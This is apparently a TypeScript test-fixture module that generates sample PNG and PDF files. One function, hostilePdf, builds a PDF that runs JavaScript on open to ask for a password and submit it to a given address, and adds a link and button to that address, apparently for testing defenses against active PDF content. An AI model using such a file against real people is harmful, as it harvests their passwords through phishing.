import { deflateSync } from "node:zlib";

/** A picture in PNG, `size` pixels wide and high, in one color. */
export function samplePng(size: number): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header.set([8, 2], 8);
  const row = Buffer.concat([Buffer.alloc(1), Buffer.alloc(size * 3, 0x6a)]);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: size }, () => row)));
  const chunks = [pngChunk("IHDR", header), pngChunk("IDAT", pixels), pngChunk("IEND", Buffer.alloc(0))];
  return Buffer.concat([Buffer.from("\x89PNG\r\n\x1A\n", "latin1"), ...chunks]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(Bun.hash.crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** A PDF of one page with a line of text. */
export function samplePdf(line: string): Uint8Array {
  return pdfOf(line, { catalog: "", page: "", more: [] });
}

/**
 * A PDF that asks for a password when it is opened, and whose page is a link and a button to `address`, wherever it is
 * clicked.
 */
export function hostilePdf(address: string): Uint8Array {
  const ask = `app.response({cQuestion:"Password:",cTitle:"handoff",bPassword:true}); this.submitForm("${address}/script");`;
  return pdfOf("Sign in", {
    catalog: "/OpenAction 6 0 R /AcroForm << /Fields [8 0 R] >>",
    page: "/Annots [7 0 R 8 0 R]",
    more: [
      `<< /S /JavaScript /JS (${ask.replaceAll(/[()]/g, String.raw`\$&`)}) >>`,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 300 100] /A << /S /URI /URI (${address}/link) >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 100 300 200] /A << /S /SubmitForm /F << /FS /URL /F (${address}/form) >> >> >>`,
    ],
  });
}

/** A PDF of one page with a line of text; objects are numbered from 1, and `more` from 6. */
function pdfOf(
  line: string,
  { catalog, page, more }: { readonly catalog: string; readonly page: string; readonly more: readonly string[] },
): Uint8Array {
  const stream = `BT /F1 18 Tf 40 100 Td (${line}) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...more,
  ];
  let text = "%PDF-1.4\n";
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, "0")} 00000 n \n`;
  });
  const count = objects.length + 1;
  const end = `xref\n0 ${count}\n0000000000 65535 f \n${offsets.join("")}trailer << /Size ${count} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text + end, "latin1");
}
